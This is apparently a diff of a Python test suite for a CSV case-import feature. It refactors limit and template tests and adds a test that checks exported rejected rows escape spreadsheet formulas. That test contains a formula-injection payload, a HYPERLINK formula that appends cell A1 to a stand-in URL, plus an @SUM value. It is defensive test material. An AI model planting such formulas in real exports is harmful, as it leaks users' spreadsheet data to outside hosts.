@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, date, datetime
 from pathlib import Path
 
@@ -14,8 +16,9 @@ from fieldapp.domain.deadlines import LIMA_TZ
 from fieldapp.domain.geo import Zone
 from fieldapp.domain.roles import Role
 from fieldapp.extensions import db
+from fieldapp.infra import csv_files
 from fieldapp.models import AuditEvent, Case, Customer, Store, Unit
-from fieldapp.services.cases import csv_import, intake
+from fieldapp.services.cases import csv_format, csv_import, intake
 from fieldapp.services.cases.csv_import import Outcome
 from tests import factories
 
@@ -296,13 +299,13 @@ def test_files_that_cannot_be_read_are_refused_with_a_reason(raw, message):
 
 def test_row_and_size_limits(monkeypatch):
     rows = [HEADER] + [f"R-{i},T70000{i},2026-10-01,,,Ana,150122" for i in range(4)]
-    monkeypatch.setattr(csv_import, "MAX_ROWS", 3)
+    monkeypatch.setattr(csv_format, "MAX_ROWS", 3)
     report = run("\n".join(rows))
     assert report.file_error == (
         "El archivo tiene 4 filas; el máximo es 3: divídalo en archivos más pequeños."
     )
-    monkeypatch.setattr(csv_import, "MAX_ROWS", 5000)
-    monkeypatch.setattr(csv_import, "MAX_BYTES", 100)
+    monkeypatch.setattr(csv_format, "MAX_ROWS", 5000)
+    monkeypatch.setattr(csv_format, "MAX_BYTES", 100)
     assert "supera el máximo" in run("\n".join(rows)).file_error
     assert count(Case) == 0
 
@@ -420,9 +423,9 @@ def test_rejected_rows_file_keeps_the_columns_says_why_and_imports_once_fixed():
 
 
 def test_the_template_has_every_column_and_imports_once_filled():
-    body = csv_import.template_file().decode("utf-8-sig")
-    assert body == ",".join(c.name for c in csv_import.COLUMNS) + "\r\n"
-    row = {c.name: "" for c in csv_import.COLUMNS}
+    body = csv_format.template_file().decode("utf-8-sig")
+    assert body == ",".join(c.name for c in csv_format.COLUMNS) + "\r\n"
+    row = {c.name: "" for c in csv_format.COLUMNS}
     row.update(
         case_number="P-1",
         service_number="T820001",
@@ -432,3 +435,28 @@ def test_the_template_has_every_column_and_imports_once_filled():
     )
     report = run(body + ",".join(row.values()) + "\r\n")
     assert [r.outcome for r in report.rows] == [Outcome.IMPORTED]
+
+
+def test_rejected_rows_file_writes_the_users_cells_as_text_never_as_formulas():
+    evil = '=HYPERLINK("http://x.example/?"&A1,"ver")'
+    quoted = '"' + evil.replace('"', '""') + '"'
+    text = "\n".join(
+        [
+            HEADER + ",customer_phone",
+            f"F-1,X1,2026-10-01,,,{quoted},150122,+51 987 654 321",
+            "F-2,T810002,2026-10-01,,,@SUM(A1),159999,-",
+        ]
+    )
+    report = run(text)
+    body = csv_import.rejected_file(report).decode("utf-8-sig")
+    lines = list(csv.reader(io.StringIO(body)))
+    assert lines[1][5] == "'" + evil and lines[1][7] == "'+51 987 654 321"
+    assert lines[2][5] == "'@SUM(A1)" and lines[2][7] == "'-"
+    assert all(not cell.startswith(csv_files.FORMULA_START) for line in lines for cell in line)
+
+    # Uploaded again once fixed, the quoted cells read as the user wrote them.
+    fixed = body.replace(",X1,", ",T810001,").replace(",159999,", ",150101,").replace(",'-,", ",,")
+    again = run(fixed.encode("utf-8-sig"))
+    assert [r.outcome for r in again.rows] == [Outcome.IMPORTED, Outcome.IMPORTED]
+    assert case("F-1").customer.name == evil and case("F-1").customer.phone == "+51 987 654 321"
+    assert case("F-2").customer.name == "@SUM(A1)"
